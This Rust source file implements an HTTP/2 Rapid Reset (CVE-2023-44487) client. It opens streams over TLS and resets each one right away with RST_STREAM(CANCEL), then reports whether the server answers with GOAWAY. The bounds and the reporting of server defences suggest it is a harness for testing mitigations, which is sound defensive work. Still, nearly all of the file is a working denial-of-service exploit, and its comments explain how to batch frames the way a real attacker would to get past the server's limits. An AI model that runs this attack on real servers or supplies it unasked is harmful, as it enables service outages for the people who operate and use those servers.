//! HTTP/2 rapid reset (CVE-2023-44487): a real `h2` client over TLS (ALPN `h2`) that opens
//! streams and cancels each one at once — HEADERS then RST_STREAM(CANCEL) in a tight loop —
//! bounded in streams and time, and reports what the server did about it.
//!
//! A reset stream no longer counts against the server's concurrent-stream cap, so without a
//! limit on such resets a client makes the server start (and cancel) handlers as fast as it can
//! write frames, on one connection that is never cut off. h2's defense answers a connection
//! that resets too many streams before the server accepted them with GOAWAY
//! `ENHANCE_YOUR_CALM`.

use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::task::{Context, Poll};
use std::time::Duration;

use bytes::Bytes;
pub use h2::Reason;
use tokio::io::{AsyncRead, AsyncWrite, BufWriter, ReadBuf};
use tokio::net::TcpStream;
use tokio::time::Instant;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::pki_types::ServerName;

/// The ALPN id of HTTP/2.
pub const ALPN_H2: &[u8] = b"h2";

/// Streams opened between two yields to the connection's driver, three times h2's default
/// limit of 20 resets waiting in the server's accept queue at once.
pub const STREAMS_PER_YIELD: usize = 64;

/// Bytes of TLS records gathered before they are written to the socket, so a batch (its
/// HEADERS and RST_STREAM frames, each stream's reset right after its HEADERS) reaches the
/// server in one write, as a real attacker packs it: written record by record, a server that
/// reads faster than the client writes accepts each stream before its reset arrives, and h2's
/// limit (resets of streams not yet accepted) is not what such a client meets.
pub const WRITE_BUFFER: usize = 64 * 1024;

/// A connector like `connector` (same roots and provider) that offers only ALPN `h2`.
pub fn alpn_h2(connector: &TlsConnector) -> TlsConnector {
    let mut config = (**connector.config()).clone();
    config.alpn_protocols = vec![ALPN_H2.to_vec()];
    TlsConnector::from(Arc::new(config))
}

/// One attacker connection's plan.
#[derive(Debug, Clone)]
pub struct RapidReset {
    /// Streams to open and reset, at most.
    pub streams: usize,
    /// The path each stream requests (a route that does real work makes each stream cost).
    pub path: String,
    /// Each stream's `x-request-id` is this followed by the stream's index.
    pub request_id_prefix: String,
    /// After the last stream, how long to wait for the server to answer (GOAWAY, close)
    /// before the connection counts as still served.
    pub linger: Duration,
    /// The whole attack ends by then, whatever is left of the streams.
    pub deadline: Instant,
}

/// An attacker connection the server still serves: the `h2` connection, no longer polled
/// (no more frames read or answered: the peer vanished), and its request handle.
pub struct StillServed {
    _connection: h2::client::Connection<TlsStream<BufWriter<ReadAfterClose>>, Bytes>,
    _send_request: h2::client::SendRequest<Bytes>,
}

impl std::fmt::Debug for StillServed {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("StillServed")
    }
}

/// How the server answered one attacker connection.
#[derive(Debug)]
pub enum Answer {
    /// The server sent GOAWAY with this reason (and closed the connection).
    GoAway(Reason),
    /// The connection ended without a GOAWAY (an I/O error, an EOF, a local error).
    Closed(String),
    /// Still open and served after every stream and the linger.
    StillServed(Box<StillServed>),
}

/// What one attacker connection saw.
#[derive(Debug)]
pub struct RapidResetReport {
    /// Streams opened and reset (HEADERS + RST_STREAM handed to the connection).
    pub streams_sent: u64,
    /// How the server answered.
    pub answer: Answer,
}

/// Connects to `addr` over TLS with `connector` (which must offer ALPN `h2`), and runs
/// `plan`. Fails when the connection cannot be made or the server does not pick `h2`.
pub async fn rapid_reset(
    addr: SocketAddr,
    connector: &TlsConnector,
    plan: &RapidReset,
) -> io::Result<RapidResetReport> {
    let stream = TcpStream::connect(addr).await?;
    stream.set_nodelay(true)?;
    let stream = BufWriter::with_capacity(WRITE_BUFFER, ReadAfterClose(stream));
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    let tls = tokio::time::timeout_at(plan.deadline, connector.connect(name, stream))
        .await
        .map_err(|_| io::Error::new(io::ErrorKind::TimedOut, "TLS handshake deadline"))??;
    if tls.get_ref().1.alpn_protocol() != Some(ALPN_H2) {
        return Err(io::Error::other("the server did not negotiate ALPN h2"));
    }
    let (send_request, mut connection) = h2::client::Builder::new()
        // Our own resets are ours to make: h2 need not keep many around.
        .max_concurrent_reset_streams(plan.streams.max(1))
        .handshake::<_, Bytes>(tls)
        .await
        .map_err(io::Error::other)?;
    let sent = AtomicU64::new(0);
    let burst = burst(send_request.clone(), plan, &sent);
    tokio::pin!(burst);
    let mut burst_over = false;
    let mut linger_until = plan.deadline;
    let ended = loop {
        tokio::select! {
            ended = &mut connection => break Some(ended),
            () = &mut burst, if !burst_over => {
                burst_over = true;
                linger_until = (Instant::now() + plan.linger).min(plan.deadline);
            }
            () = tokio::time::sleep_until(linger_until), if burst_over => break None,
            () = tokio::time::sleep_until(plan.deadline), if !burst_over => break None,
        }
    };
    let streams_sent = sent.load(Ordering::Relaxed);
    let answer = match ended {
        Some(Err(error)) if error.is_go_away() && error.is_remote() => {
            Answer::GoAway(error.reason().unwrap_or(Reason::NO_ERROR))
        }
        Some(Err(error)) => Answer::Closed(error.to_string()),
        Some(Ok(())) => Answer::Closed("connection ended cleanly".to_owned()),
        None => Answer::StillServed(Box::new(StillServed {
            _connection: connection,
            _send_request: send_request,
        })),
    };
    Ok(RapidResetReport {
        streams_sent,
        answer,
    })
}

/// Opens and resets up to `plan.streams` streams, counting them in `sent`; ends early when
/// the connection refuses new streams (GOAWAY, closed) or the deadline passes.
async fn burst(
    mut send_request: h2::client::SendRequest<Bytes>,
    plan: &RapidReset,
    sent: &AtomicU64,
) {
    for index in 0..plan.streams {
        if Instant::now() >= plan.deadline {
            return;
        }
        // Waits for a stream slot (the server's cap) and fails once the connection is going away.
        if std::future::poll_fn(|cx| send_request.poll_ready(cx))
            .await
            .is_err()
        {
            return;
        }
        let request = http::Request::get(format!("https://localhost{}", plan.path))
            .header("x-request-id", format!("{}{index}", plan.request_id_prefix))
            .body(())
            .expect("a valid request");
        let Ok((_response, mut stream)) = send_request.send_request(request, true) else {
            return;
        };
        stream.send_reset(Reason::CANCEL);
        sent.fetch_add(1, Ordering::Relaxed);
        if index % STREAMS_PER_YIELD == STREAMS_PER_YIELD - 1 {
            tokio::task::yield_now().await;
        }
    }
}

/// A socket whose writes, once the peer has closed, are dropped instead of failing, so the
/// client reads on to what the peer said before closing. A server that sends GOAWAY closes the
/// connection while the attacker is still writing: the next write fails (broken pipe, reset)
/// before h2 has read the GOAWAY that waits in the receive buffer, and h2 would report the
/// write's error instead of the server's reason.
#[derive(Debug)]
pub struct ReadAfterClose(TcpStream);

fn peer_closed(error: &io::Error) -> bool {
    matches!(
        error.kind(),
        io::ErrorKind::BrokenPipe | io::ErrorKind::ConnectionReset
    )
}

impl AsyncRead for ReadAfterClose {
    fn poll_read(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<io::Result<()>> {
        Pin::new(&mut self.0).poll_read(cx, buf)
    }
}

impl AsyncWrite for ReadAfterClose {
    fn poll_write(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<io::Result<usize>> {
        match Pin::new(&mut self.0).poll_write(cx, buf) {
            Poll::Ready(Err(error)) if peer_closed(&error) => Poll::Ready(Ok(buf.len())),
            other => other,
        }
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        match Pin::new(&mut self.0).poll_flush(cx) {
            Poll::Ready(Err(error)) if peer_closed(&error) => Poll::Ready(Ok(())),
            other => other,
        }
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        match Pin::new(&mut self.0).poll_shutdown(cx) {
            Poll::Ready(Err(error)) if peer_closed(&error) => Poll::Ready(Ok(())),
            other => other,
        }
    }
}

/// The name of an HTTP/2 error code, as RFC 9113 §7 spells it.
pub fn reason_name(reason: Reason) -> String {
    let known = [
        (Reason::NO_ERROR, "NO_ERROR"),
        (Reason::PROTOCOL_ERROR, "PROTOCOL_ERROR"),
        (Reason::INTERNAL_ERROR, "INTERNAL_ERROR"),
        (Reason::FLOW_CONTROL_ERROR, "FLOW_CONTROL_ERROR"),
        (Reason::SETTINGS_TIMEOUT, "SETTINGS_TIMEOUT"),
        (Reason::STREAM_CLOSED, "STREAM_CLOSED"),
        (Reason::FRAME_SIZE_ERROR, "FRAME_SIZE_ERROR"),
        (Reason::REFUSED_STREAM, "REFUSED_STREAM"),
        (Reason::CANCEL, "CANCEL"),
        (Reason::COMPRESSION_ERROR, "COMPRESSION_ERROR"),
        (Reason::CONNECT_ERROR, "CONNECT_ERROR"),
        (Reason::ENHANCE_YOUR_CALM, "ENHANCE_YOUR_CALM"),
        (Reason::INADEQUATE_SECURITY, "INADEQUATE_SECURITY"),
        (Reason::HTTP_1_1_REQUIRED, "HTTP_1_1_REQUIRED"),
    ];
    known.iter().find(|(code, _)| *code == reason).map_or_else(
        || format!("0x{:x}", u32::from(reason)),
        |(_, name)| (*name).to_owned(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reasons_are_named_as_the_rfc_does() {
        assert_eq!(reason_name(Reason::ENHANCE_YOUR_CALM), "ENHANCE_YOUR_CALM");
        assert_eq!(reason_name(Reason::from(0x77)), "0x77");
    }
}
